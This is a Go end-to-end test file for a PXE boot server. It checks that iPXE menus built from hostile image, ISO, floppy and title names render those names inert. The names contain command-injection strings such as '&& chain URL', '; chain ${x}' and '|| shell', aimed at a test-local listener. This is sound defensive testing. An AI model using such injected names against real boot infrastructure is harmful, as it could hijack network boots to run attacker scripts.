package e2e

import (
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/pxewim/pxewim/internal/testenv"
)

// The hostile-menu tests: a real iPXE runs a menu built from a store whose names try to add
// commands: WIM images named "PE && chain URL && echo" and the like, ISO and floppy files named
// with ';', '${x}', '#', quotes and '&', an unreadable ISO with such a name, a menu title and
// entry titles doing the same. Every URL they name points at a listener of the test on the lab
// server's address, another port, inside the test's own network namespace. iPXE builds the
// whole menu (every item line runs), times out into the default entry (whose title is hostile
// too) and boots it. The listener must receive nothing, and pxewim only the requests it meant.

const (
	hostileEvilPort = 8099
	hostileRanMark  = "PXEWIM-HOSTILE-SCRIPT-RAN"
	hostileDoneMark = "PXEWIM-HOSTILE-MENU-DONE"
	hostileISO      = "my iso's & stuff ; chain ${x} #1.iso"      // the BIOS default boots it
	hostileAutoISO  = "auto && chain ${filename} || shell #2.iso" // an automatic entry
	hostileBadISO   = "broken ; chain ${${a}} #3.iso"             // unreadable: a disabled line
	hostileFloppy   = "dos || chain ${x} ; #4.img"                // memdisk: BIOS only
)

// hostileMenuRun is what one run gives the checks.
type hostileMenuRun struct {
	evil   string // the listener's base URL
	res    *testenv.VMResult
	recs   []logRecord
	reqs   []string // requests the listener got
	isoLen int64
}

// runHostileMenu builds the store and config, starts the listener and boots vm until marker.
// defaultEntry is the entry the menu times out into.
func runHostileMenu(t *testing.T, subnet, name, defaultEntry, marker string, vm func(dir string) testenv.VMSpec) *hostileMenuRun {
	t.Helper()
	testenv.RequireTools(t, "nasm", "genisoimage")
	srv := subnet + ".1" // the lab's server address (testenv.Lab.SrvIP)
	run := &hostileMenuRun{evil: fmt.Sprintf("http://%s:%d", srv, hostileEvilPort)}
	evil := run.evil
	lab, d, capture, site, dir := winpeLabStart(t, subnet, name, func(lab *testenv.Lab, store string) string {
		if lab.SrvIP.String() != srv {
			t.Fatalf("lab server %s, the store's names point at %s", lab.SrvIP, srv)
		}
		return fmt.Sprintf(`store: %s
listen:
  http: "%s:80"
  tftp: "%s:69"
dhcp:
  mode: proxy
  interfaces: [%s]
ipxe:
  dir: %s
  bios: undionly.kpxe
  efi64: snponly.efi
images:
  syslinux: /usr/lib/syslinux
winpe: {auto: true, wimboot: wimboot}
menu:
  title: "Lab ; chain %s/title.ipxe && echo ${x}"
  timeout: 1s
  default: %s
entries:
  - name: rescue
    title: "Rescue && chain %s/cfg.ipxe && echo ${${a}} #"
    iso: { image: %q, method: sanboot }
  - name: done
    title: "Done || chain %s/done.ipxe ; echo"
    ipxe: |
      echo %s
      sleep 60
`, store, lab.SrvIP, lab.SrvIP, lab.Bridge, testenv.IPXEDir, evil, defaultEntry, evil, hostileISO, evil, hostileDoneMark)
	}, func(store string) {
		sector := buildBootSector(t, t.TempDir())
		writeBootISO(t, filepath.Join(store, hostileISO), sector)
		writeBootISO(t, filepath.Join(store, hostileAutoISO), sector)
		writeFloppy(t, filepath.Join(store, hostileFloppy), sector)
		if err := os.WriteFile(filepath.Join(store, hostileBadISO), []byte(strings.Repeat("not an ISO ", 5000)), 0o644); err != nil {
			t.Fatal(err)
		}
		run.isoLen = fileSize(t, filepath.Join(store, hostileISO))
		os.MkdirAll(filepath.Join(store, "pe"), 0o755)
		testenv.BuildWinPE(t, filepath.Join(store, "pe", "hostile.wim"), []testenv.WinPEImage{
			{Name: "PE && chain " + evil + "/and.ipxe && echo"},
			{Name: "PE ; chain " + evil + "/semi.ipxe #c ${net0/mac}"},
		})
		os.WriteFile(filepath.Join(store, "wimboot"), []byte("stand-in: never fetched in this test"), 0o644)
	})
	// The listener every hostile URL names: any request to it is a failure; what it would
	// serve prints a marker the VM watch fails on.
	evilScript := filepath.Join(dir, "evil.ipxe")
	os.WriteFile(evilScript, []byte("#!ipxe\necho "+hostileRanMark+"\nshell\n"), 0o644)
	files := map[string]string{}
	for _, p := range []string{"/and.ipxe", "/semi.ipxe", "/title.ipxe", "/cfg.ipxe", "/done.ipxe", "/"} {
		files[p] = evilScript
	}
	listener := serveFiles(t, lab.Srv, fmt.Sprintf("%s:%d", srv, hostileEvilPort), files)

	spec := vm(dir)
	spec.FailOn = append(spec.FailOn, append(testenv.FatalConsoleLines(), "iPXE>", "pxewim: boot failed", hostileRanMark, "command not found")...)
	start := time.Now()
	res, recs, _ := bootVM(t, lab, d, capture, site, spec, marker, name)
	t.Logf("%s: marker %.1fs after QEMU started (run %.1fs): %s", name, res.TimeToMarker.Seconds(), time.Since(start).Seconds(), res.MarkerLine)
	run.res, run.recs = res, recs
	listener.mu.Lock()
	run.reqs = append([]string(nil), listener.reqs...)
	listener.mu.Unlock()
	return run
}

// check: the listener got nothing, pxewim only the requests in meant (want: path -> true) and
// iPXE over TFTP, and the menu iPXE drew shows the names made inert (wantLines), and not the
// lines in absent.
func (r *hostileMenuRun) check(t *testing.T, want map[string]bool, wantLines, absent []string) {
	t.Helper()
	if len(r.reqs) > 0 {
		t.Errorf("the listener named by the store's names got %d requests: %q", len(r.reqs), r.reqs)
	}
	for _, rec := range filterLog(r.recs, "http request", nil) {
		if !want[rec.str("path")] {
			t.Errorf("pxewim got a request it did not mean: %s", rec)
		}
	}
	for _, rec := range filterLog(r.recs, "tftp: sent", nil) {
		if p := rec.str("path"); !strings.HasSuffix(p, "undionly.kpxe") && !strings.HasSuffix(p, "snponly.efi") {
			t.Errorf("TFTP sent something else than iPXE: %s", rec)
		}
	}
	if n := len(filterLog(r.recs, "http request", func(rec logRecord) bool { return rec.str("path") == "/boot.ipxe" })); n != 1 {
		t.Errorf("%d requests for /boot.ipxe, want 1", n)
	}
	// iPXE drew the menu: the names, made inert, are item texts on the console, and the
	// unreadable ISO is a disabled line saying why.
	for _, w := range append([]string{
		"  PE and chain " + r.evil + "/and.ipxe and echo (pe/hostile.wim:1, x",
		"  PE , chain " + r.evil + "/semi.ipxe _#c {net0/mac} (pe/hostile.wim",
		"  auto and chain {filename} or shell _#2.iso (ISO, sanboot)",
		"  broken , chain {{a}} _#3.iso cannot boot: unreadable ISO: ",
		"Lab , chain " + r.evil + "/title.ipxe and echo {x}",
		"  Rescue and chain " + r.evil + "/cfg.ipxe and echo {{a}} _#",
		"  Done or chain " + r.evil + "/done.ipxe , echo",
	}, wantLines...) {
		if !strings.Contains(r.res.Serial, w) {
			t.Errorf("the menu on the console lacks %q", w)
		}
	}
	for _, a := range absent {
		if strings.Contains(r.res.Serial, a) {
			t.Errorf("the menu on the console shows %q", a)
		}
	}
	wantNoErrorLogs(t, r.recs)
}

// TestHostileMenuSeaBIOS: SeaBIOS + iPXE ROM, then undionly.kpxe. The default entry sanboots
// the ISO with the hostile file name (its URL percent-encoded) and its boot sector runs; the
// floppy image is offered (memdisk, BIOS).
func TestHostileMenuSeaBIOS(t *testing.T) {
	const mac = "52:54:00:77:96:0a"
	r := runHostileMenu(t, "10.77.96", "hostile-menu-bios", "rescue", bootSectorMarker, func(dir string) testenv.VMSpec {
		return testenv.VMSpec{Firmware: testenv.SeaBIOS, NIC: "e1000", Name: "hostile-menu-bios", MAC: mac, Dir: dir,
			Extra: []string{"-device", "isa-debug-exit,iobase=0xf4,iosize=0x04"}}
	})
	// The default entry ran: its (inert) title (iPXE wraps the console at 80 columns), then
	// sanboot of the hostile-named ISO, read by its real name.
	if w := "pxewim: booting Rescue and chain " + r.evil + "/cfg.ipxe and echo {{a}}"; !strings.Contains(r.res.Serial, w) {
		t.Errorf("console lacks %q", w)
	}
	if !strings.Contains(r.res.MarkerLine, bootSectorMarker+" dl=80") {
		t.Errorf("boot sector did not start from iPXE's SAN drive 0x80: %q", r.res.MarkerLine)
	}
	ranges, bytes := sanbootRanges(r.recs, "/files/"+hostileISO)
	if ranges == 0 || bytes == 0 || bytes > r.isoLen {
		t.Errorf("sanboot read %d bytes of the %d-byte ISO in %d ranges", bytes, r.isoLen, ranges)
	}
	r.check(t, map[string]bool{"/boot.ipxe": true, "/files/" + hostileISO: true},
		[]string{"  dos or chain {x} , _#4.img (disk image, memdisk)"}, nil)
}

// TestHostileMenuOVMF: OVMF's own PXE client gets snponly.efi; the EFI iPXE runs the same
// hostile menu without the floppy image (memdisk cannot boot on UEFI: hidden), times out into
// the default entry (an ipxe: entry printing a marker) and requests nothing else.
func TestHostileMenuOVMF(t *testing.T) {
	const mac = "52:54:00:77:97:0a"
	testenv.RequireOVMF(t)
	testenv.RequireFiles(t, "ipxe", filepath.Join(testenv.IPXEDir, "snponly.efi"))
	r := runHostileMenu(t, "10.77.97", "hostile-menu-ovmf", "done", hostileDoneMark, func(dir string) testenv.VMSpec {
		return testenv.VMSpec{Firmware: testenv.OVMF, NIC: "virtio-net-pci", ROMFile: testenv.NoROM(), Name: "hostile-menu-ovmf", MAC: mac, Dir: dir}
	})
	if w := "pxewim: booting Done or chain " + r.evil + "/done.ipxe , echo"; !strings.Contains(r.res.Serial, w) {
		t.Errorf("console lacks %q", w)
	}
	r.check(t, map[string]bool{"/boot.ipxe": true}, nil, []string{"#4.img", "dos or chain"})
}
